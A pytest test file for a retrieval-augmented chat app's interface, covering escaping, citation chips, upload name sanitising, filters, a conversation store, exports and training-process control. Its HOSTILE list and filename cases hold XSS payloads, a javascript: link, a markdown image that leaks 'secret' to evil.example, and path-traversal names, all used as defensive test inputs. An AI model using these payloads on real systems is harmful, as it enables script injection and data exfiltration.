"""The plain modules below the pages."""

import dataclasses
import json
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path, PurePosixPath

import pytest
from imported import imported_by
from streamlit.testing.v1 import AppTest

from finetune.run import LOG, Run, training_lock
from rag_app.artifacts import locked, write_json
from rag_app.conversations.answer_json import answer_from_dict
from rag_app.conversations.store import Conversations, Vote
from rag_app.documents import upload_names as names
from rag_app.documents.uploads import inside
from rag_app.errors import ConversationError, DataError, DocumentError, SettingsError
from rag_app.pipeline import Rag
from rag_app.testing import FakeChatModel, FakeEmbedder
from rag_app.ui import markup
from rag_app.ui.chat import export, facets
from rag_app.ui.engine import Engine
from rag_app.ui.evidence import chips
from rag_app.ui.evidence.answer_html import streaming_html
from rag_app.ui.training import runs
from rag_app.ui.training.processes import Outcome, Processes

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "a\u202egnp.exe\x00\x1b[31m",
    "$$x$$ :red[y] `z` **b** ~~s~~ # h",
    "&lt;b&gt; &amp;",
)


@pytest.fixture
def answer(handbook, embedder):
    return Rag(handbook, embedder, FakeChatModel()).ask("Who approves travel costs?")


# Markup


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_has_no_markup_and_says_the_same(text):
    import html

    made = markup.escape(text)
    assert "<" not in made and ">" not in made and '"' not in made
    assert "\x00" not in made and "\u202e" not in made
    kept = text.translate({0x202E: "\ufffd", 0: "\ufffd", 0x1B: "\ufffd"})
    assert html.unescape(made) == kept
    assert markup.passage_box(text) == f'<div class="lr-passage">{made}</div>'


@pytest.mark.parametrize("text", HOSTILE)
def test_labels_are_literal_in_markdown(text):
    from markdown_it import MarkdownIt

    (inline,) = [t for t in MarkdownIt().parse(markup.label(text)) if t.type == "inline"]
    assert {t.type for t in inline.children} <= {"text", "text_special"}


def test_evidence_is_the_passage_and_the_span_inside_it(answer):
    (citation,) = chips.shown_citations(answer)
    evidence = chips.evidence_of(answer, citation)
    assert evidence.text == answer.passages[0].text
    assert evidence.text[evidence.start : evidence.end] == citation.cited_text
    assert evidence.place.startswith("travel.md")


def test_long_names_make_short_chips(answer):
    (citation,) = answer.citations
    long = dataclasses.replace(citation, source="a/" + "x" * 200 + ".pdf", page=7)
    assert len(chips.chip_text(long)) < 60 and chips.chip_text(long).endswith(".pdf · page 7")


def test_chips_of_one_file_are_called_by_their_sections(answer):
    (citation,) = answer.citations
    made = [
        dataclasses.replace(citation, source="faq.html", marker=n, page=None, headings=h)
        for n, h in enumerate((("FAQ", "Setup"), ("FAQ", "Errors"), ()), 1)
    ]
    assert chips.chip_texts(made) == ["1 · Setup", "2 · Errors", "3 · faq.html"]
    assert chips.chip_texts(made[:1]) == ["1 · faq.html"]
    pages = [dataclasses.replace(one, page=one.marker) for one in made]
    assert chips.chip_texts(pages)[0] == "1 · faq.html · page 1"


def test_chips_of_a_mail_name_the_file_that_is_attached_to_it(answer):
    (citation,) = answer.citations
    mail = dataclasses.replace(citation, source="uploads/Offer.EML", title="Our offer.pdf", page=None)
    above = [(mail.title,), (mail.title, "terms.pdf", "Notice"), (mail.title, "inner.msg", "list.xlsx")]
    made = [dataclasses.replace(mail, marker=n, headings=h) for n, h in enumerate(above, 1)]
    shown = ["1 · Offer.EML", "2 · Offer.EML › terms.pdf", "3 · Offer.EML › list.xlsx"]
    assert chips.chip_texts(made) == shown
    own = dataclasses.replace(made[1], headings=(mail.title, "terms.pdf", "Edit config.json"))
    alike = dataclasses.replace(made[1], headings=(mail.title, mail.title))
    assert [chips.chip_text(c) for c in (own, alike)] == [shown[1], "2 · Offer.EML › Our offer.pdf"]
    two = dataclasses.replace(made[1], headings=(mail.title, "terms.pdf", "Fees"))
    assert chips.chip_texts([made[0], made[1], two]) == [shown[0], "2 · Notice", "2 · Fees"]
    guide = dataclasses.replace(made[1], source="guide.md")
    assert chips.chip_texts([guide]) == ["2 · guide.md"]
    long = dataclasses.replace(mail, source="x" * 90 + ".eml", headings=("y" * 90 + ".pdf",))
    assert len(chips.chip_text(long)) < 64


def test_lines_with_a_dash_are_items():
    shown = streaming_html("It names:\n- low <b> water\n- late towns\nThat is all - so far.")
    assert shown.endswith(
        'It names:<div class="lr-item" role="listitem">low &lt;b&gt; water</div>'
        '<div class="lr-item" role="listitem">late towns</div>That is all - so far.</div>'
    )


def test_uploads_go_by_the_names_that_they_were_sent_with(answer):
    (citation,) = answer.citations
    for source, shown in (("uploads/a/setup.md", "a/setup.md"), ("notes/uploads/b.md", "notes/uploads/b.md")):
        assert chips.evidence_of(answer, dataclasses.replace(citation, source=source)).place.startswith(shown)


# File names


@pytest.mark.parametrize(
    ("given", "made"),
    [
        ("report.pdf", "report.pdf"),
        ("../../etc/passwd.txt", "etc/passwd.txt"),
        ("/etc/cron.d/job.txt", "etc/cron.d/job.txt"),
        ("C:\\Users\\x\\notes.md", "C_/Users/x/notes.md"),
        ("folder/sub/a b.md", "folder/sub/a b.md"),
        ("..\\..\\x.html", "x.html"),
        (".hidden.md", "hidden.md"),
        ("con.txt", "_con.txt"),
        ("a\x00b\nc.txt", "a_b_c.txt"),
        ("evil\u202efdp.md", "evil_fdp.md"),
        ("a<b>:?.md", "a_b___.md"),
        ("Ünïcödé.pdf", "Ünïcödé.pdf"),
    ],
)
def test_names_from_a_browser_become_safe(given, made):
    assert names.safe_path(given) == PurePosixPath(made)


def test_rows_for_a_training_have_types_of_their_own():
    assert names.safe_path("rows.parquet", (".csv", ".parquet")) == PurePosixPath("rows.parquet")
    with pytest.raises(DocumentError, match=r"convert it to \.csv, \.parquet"):
        names.safe_path("rows.pdf", (".csv", ".parquet"))


def test_a_long_name_keeps_its_extension():
    made = names.safe_path("é" * 300 + ".pdf")
    assert made.suffix == ".pdf" and len(made.name.encode()) <= 130


def test_long_names_that_begin_alike_stay_two_files():
    begin = "Отчёт о результатах проверки деятельности учреждения за отчётный период, часть "
    first, second = (names.safe_path(f"{begin * 2}{number}.pdf") for number in (1, 2))
    assert first != second and names.safe_path(str(first)) == first  # the name that was given back means the same file


@pytest.mark.parametrize("given", ["", "..", "/", "///", "x.exe", "noextension", "a/..", "~$x.txt", "CVS/b.md"])
def test_names_without_a_readable_file_are_refused(given):
    with pytest.raises(DocumentError):
        names.safe_path(given)


def test_a_link_out_of_the_folder_is_not_followed(tmp_path):
    (tmp_path / "uploads").mkdir()
    (tmp_path / "uploads" / "out").symlink_to(tmp_path)
    with pytest.raises(DocumentError, match="outside"):
        inside(tmp_path / "uploads", PurePosixPath("out/x.md"))


def test_too_much_is_refused_by_name():
    mb = 1 << 20
    refused = names.check_sizes([("a", 3 * mb), ("big", 11 * mb), ("b", 8 * mb), ("c", 5 * mb)], 10, 12)
    assert list(refused) == ["big", "c"] and refused["big"].startswith("big: 11 MB")


# Filters


def test_facets_and_filters():
    found = facets.facets_of([{"year": 2020, "lang": "en"}, {"year": 2023, "lang": "de", "draft": True}, {"n": 1}])
    assert [(f.key, f.values, f.low, f.high) for f in found] == [
        ("draft", (True,), None, None),
        ("lang", ("de", "en"), None, None),
        ("year", (), 2020, 2023),
    ]
    assert facets.where_of([], {"lang": [], "year": (2020, 2023)}, found) is None
    mixed = facets.facets_of(
        [{"n": 1, "source": "wiki"}, {"n": 2.5, "source": "book"}, {"n": float("nan")}, {"n": None}]
    )
    assert [(f.key, f.low, f.high, type(f.low)) for f in mixed] == [("n", 1.0, 2.5, float)]
    large = facets.facets_of([{"n": 2**53, "m": 2**53 - 1, "f": 10**400}, {"n": 1, "m": 1, "f": 0.5}])
    assert [(f.key, f.high) for f in large] == [("m", 2**53 - 1)]
    assert facets.where_of(["a.md"], {"lang": ["de"], "year": (2021, 2023)}, found) == {
        "source": ["a.md"], "lang": ["de"], "year": {"$gte": 2021, "$lte": 2023},
    }  # fmt: skip


def test_tags_are_chosen_one_by_one():
    (found,) = facets.facets_of([{"tags": "house, bicycle"}, {"tags": "bicycle"}, {"tags": "Paris"}])
    assert found.values == ("Paris", "bicycle", "house")
    assert facets.where_of([], {"tags": ["house"]}, [found]) == {"tags": {"$has": ["house"]}}
    (place,) = facets.facets_of([{"place": "Paris, France"}])
    assert place.values == ("Paris, France",)
    (mixed,) = facets.facets_of([{"tags": "a, b"}, {"tags": 3}])
    assert facets.where_of([], {"tags": [3, "a"]}, [mixed]) == {"tags": [3, "a"]}


def test_values_that_look_alike_are_one_choice_that_means_them_all():
    (year,) = facets.facets_of([{"year": 2020}, {"year": "2020"}, {"year": "n/a"}])  # front matter and a CSV file
    assert year.values == (2020, "2020", "n/a") and year.options == ("2020", "n/a")
    assert facets.where_of([], {"year": ["2020"]}, [year]) == {"year": [2020, "2020"]}


# Conversations


def test_an_answer_comes_back_from_json_as_it_was(answer):
    values = json.loads(json.dumps(answer.to_dict()))
    assert answer_from_dict(values) == answer
    values["record"]["from_the_future"] = 1
    assert answer_from_dict(values) == answer


def test_turns_votes_and_preferences_are_kept_and_apart(tmp_path, answer):
    store = Conversations(tmp_path / "c.sqlite")
    mine = store.create("me", "  A very\nlong title " * 10)
    assert len(mine.title) <= 60 and "\n" not in mine.title
    turn_id = store.add_turn("me", mine.id, "q \ud800", [answer, answer])
    store.prefer("me", turn_id, 1)
    store.vote("me", turn_id, 0, Vote(1), tmp_path / "f.jsonl")
    (turn,) = Conversations(tmp_path / "c.sqlite").turns("me", mine.id)
    assert turn.answers == (answer, answer) and turn.question == "q ?"
    assert turn.preferred == 1 and turn.votes == {0: Vote(1)} and turn.answer == answer
    assert store.preferences() == {"base": (1, 2)}
    for call in (
        lambda: store.turns("you", mine.id),
        lambda: store.add_turn("you", mine.id, "q", []),
        lambda: store.rename("you", mine.id, "x"),
        lambda: store.delete("you", mine.id, tmp_path / "f.jsonl"),
        lambda: store.prefer("you", turn_id, 0),
        lambda: store.vote("you", turn_id, 0, None, tmp_path / "f.jsonl"),
    ):
        with pytest.raises(ConversationError, match="does not exist"):
            call()
    assert store.of("you") == []
    store.vote("me", turn_id, 0, None, tmp_path / "f.jsonl")
    assert (tmp_path / "f.jsonl").read_bytes() == b""


def test_many_threads_and_another_process_write_at_once(tmp_path, answer):
    path = tmp_path / "c.sqlite"
    store = Conversations(path)
    one = store.create("me", "shared")
    program = (
        "import sys; from pathlib import Path; from rag_app.conversations.store import Conversations\n"
        "store = Conversations(Path(sys.argv[1]))\n"
        "for i in range(20): store.add_turn('me', sys.argv[2], f'process {i}', [])\n"
    )
    process = subprocess.Popen([sys.executable, "-c", program, str(path), one.id])
    threads = [
        threading.Thread(target=lambda n=n: [store.add_turn("me", one.id, f"{n} {i}", [answer]) for i in range(10)])
        for n in range(4)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert process.wait() == 0
    assert len(store.turns("me", one.id)) == 60


def test_a_foreign_or_newer_file_is_refused_in_one_sentence(tmp_path):
    (tmp_path / "x.sqlite").write_bytes(b"not a database at all" * 100)
    with pytest.raises(ConversationError, match=r"x\.sqlite"):
        Conversations(tmp_path / "x.sqlite")
    with sqlite3.connect(tmp_path / "new.sqlite") as db:
        db.execute("PRAGMA user_version = 99")
    with pytest.raises(ConversationError, match="version 99"):
        Conversations(tmp_path / "new.sqlite")


def test_exports_hold_everything_and_escape_it(tmp_path, answer):
    from markdown_it import MarkdownIt

    store = Conversations(tmp_path / "c.sqlite")
    one = store.create("me", HOSTILE[0])
    store.add_turn("me", one.id, HOSTILE[1] + HOSTILE[2], [dataclasses.replace(answer, text=HOSTILE[2])])
    turns = store.turns("me", one.id)
    made = export.to_markdown(one, turns, "2026-01-02")
    assert answer.citations[0].cited_text in made
    rendered = MarkdownIt().render(made)
    assert "<script" not in rendered and "<img" not in rendered and "<a " not in rendered
    values = json.loads(export.to_json(one, turns))
    assert answer_from_dict(values["turns"][0]["answers"][0]) == turns[0].answers[0]


# Training


def test_curves_are_read_while_the_log_is_written(tmp_path):
    run = Run(tmp_path)
    assert runs.read_curves(run).loss == {}
    log = run.training / LOG
    log.parent.mkdir()
    log.write_text(
        '{"step": 1, "max_steps": 4, "loss": 2.0, "tokens_per_s": 10, "time_left_s": 60}\n'
        '{"step": 1, "evaluation": {"f1": 0.5, "seconds": 3}}\n'
        '{"step": 2, "max_steps": 4, "loss": 1.0, "tokens_per_s": 12, "time_left_s": 40}\n{"step": 3, "lo'
    )
    curves = runs.read_curves(run)
    assert curves.loss == {1: 2.0, 2: 1.0} and curves.metrics["f1"] == {1: 0.5} and curves.last["step"] == 2
    for damaged in (
        "not JSON", "5", "[" * 100_000, '{"step": 1, "loss": "x"}', '{"step": [1], "loss": 2.0}', '{"loss": 2.0}',
        '{"step": 1, "loss": 2.0, "time_left_s": {}}', '{"step": 1, "evaluation": 5}',
        '{"step": 1, "loss": 1' + "0" * 400 + "}",
    ):  # fmt: skip
        log.write_text(f'{{"step": 1, "loss": 2.0}}\n{damaged}\n')
        with pytest.raises(DataError, match="log is damaged"):
            runs.read_curves(run)


def test_pages_start_without_the_heavy_packages_of_training():
    program = "from rag_app.ui import app; from rag_app.ui.training import runs; runs.shipped_recipes()"
    assert imported_by(program, ("torch", "transformers", "peft", "datasets", "scipy", "faiss")) == []


def test_shipped_recipes_have_a_line_about_themselves():
    assert "domain_qa" in runs.shipped_recipes()
    assert all(runs.shipped_recipes().values())


def test_a_process_is_stopped_as_ctrl_c_would_and_resumed(tmp_path, monkeypatch):
    program = tmp_path / "fake.py"
    program.write_text(
        "import signal, sys, time\n"
        "signal.signal(signal.SIGINT, signal.default_int_handler)\n"  # as `train`: a job in the background ignores it
        "print(f'args {sys.argv[1:]}', flush=True)\n"  # in one write, so that nobody reads half of it
        "try:\n    time.sleep(60)\nexcept KeyboardInterrupt:\n    print('saved', flush=True)\n"
    )
    real = subprocess.Popen
    monkeypatch.setattr(
        subprocess, "Popen", lambda command, **k: real([sys.executable, str(program), *command[3:]], **k)
    )
    processes = Processes(tmp_path / "trainings")
    assert not processes.can_resume("run")
    with pytest.raises(DataError, match="not started here"):
        processes.resume("run")
    with pytest.raises(SettingsError):
        processes.start("../run", ["train"])
    processes.start("run", ["train", "domain_qa"])
    _wait(lambda: processes.last_lines("run"))
    with pytest.raises(DataError, match="still running"):
        processes.start("run", ["train", "domain_qa"])
    processes.stop("run")
    _wait(lambda: not processes.running("run"))
    assert processes.last_lines("run") == ["args ['train', 'domain_qa']", "saved"]
    assert processes.outcome("run") == Outcome("train", 0) and processes.reason("run") == "saved"
    again = Processes(tmp_path / "trainings")  # another server
    assert again.outcome("run") == Outcome("train", 0)
    again.resume("run")
    _wait(lambda: again.last_lines("run"))
    assert again.last_lines("run") == ["args ['train', 'domain_qa']"]
    again.stop("run")
    _wait(lambda: not again.running("run"))


def test_a_command_counts_as_running_until_its_outcome_is_kept(tmp_path, monkeypatch):
    real, ended, go_on = subprocess.Popen, threading.Event(), threading.Event()
    monkeypatch.setattr(subprocess, "Popen", lambda command, **k: real([sys.executable, "-c", "exit(3)"], **k))

    def written(path, values):
        if path.name == "run.outcome.json":
            ended.set()
            assert go_on.wait(10)
        write_json(path, values)

    monkeypatch.setattr("rag_app.ui.training.processes.write_json", written)
    processes = Processes(tmp_path / "trainings")
    processes.start("run", ["train", "domain_qa"])
    assert ended.wait(10) and processes.running("run") and processes.outcome("run") is None
    processes.stop("run")  # it has ended already: nothing to do
    with pytest.raises(DataError, match="still running"):
        processes.start("run", ["train", "domain_qa"])
    go_on.set()
    _wait(lambda: not processes.running("run"))
    assert processes.outcome("run") == Outcome("train", 3)


def test_a_training_that_was_started_elsewhere_counts_as_running(tmp_path):
    processes = Processes(tmp_path / "trainings", tmp_path / "runs")
    (tmp_path / "runs" / "run" / "training").mkdir(parents=True)
    assert not processes.running("run")
    with locked(training_lock(Run(tmp_path / "runs" / "run").training)):
        assert processes.running("run") and not processes.started_here("run")
        with pytest.raises(DataError, match="still running"):
            processes.start("run", ["train", "domain_qa"])
    assert not processes.running("run")


def test_pages_do_not_wait_while_an_embedder_loads(tmp_path, handbook, monkeypatch):
    monkeypatch.chdir(tmp_path)
    loading, go_on = threading.Event(), threading.Event()

    def load(name):
        loading.set()
        assert go_on.wait(10)
        return FakeEmbedder()

    engine = Engine(data=tmp_path / "data", model=FakeChatModel(), load_embedder=load)
    question = threading.Thread(target=lambda: engine.rag("handbook"), daemon=True)
    question.start()
    assert loading.wait(5)
    page = threading.Thread(target=lambda: [engine.warm(), engine.start("x", "x", lambda job: None)], daemon=True)
    page.start()
    page.join(2)
    waited = page.is_alive()
    go_on.set()
    question.join(10)
    assert not waited and engine.rag("handbook").retrieve("travel")


def _wait(condition, seconds: float = 10.0):
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.02)


@pytest.mark.skipif(sys.platform == "win32", reason="replaces its process")
def test_the_command_binds_to_loopback(monkeypatch):
    from rag_app.cli import main, ui

    class Replaced(Exception):
        pass

    def execve(program, command, environment):
        raise Replaced(command, environment)

    monkeypatch.setattr(ui.os, "execve", execve)
    with pytest.raises(Replaced) as replaced:
        main(["ui", "--port", "9000", "--root", "my-indexes", "--no-browser", "--host-name", "docs.example.org"])
    command, env = replaced.value.args
    assert "--server.address=127.0.0.1" in command and "--server.port=9000" in command
    assert env["RAG_APP_INDEXES"] == "my-indexes" and env["RAG_APP_UI_HOSTS"] == "docs.example.org"
    assert "--server.corsAllowedOrigins=https://docs.example.org" in command and "RAG_APP_UI_TOKEN" not in env
    assert Path(command[4]).is_file()


def test_a_press_is_heard_in_the_run_after_one_that_ended_before_the_button() -> None:
    def page() -> None:
        import streamlit as st

        from rag_app.ui.shared import pressed

        if st.session_state.pop("interrupted", False):
            st.stop()
        if pressed("Start", key="start"):
            st.text("started")

    test = AppTest.from_function(page).run()
    test.session_state["interrupted"] = True
    test.button("start").click().run()
    assert not test.text
    assert [text.value for text in test.run().text] == ["started"]
    assert not test.run().text
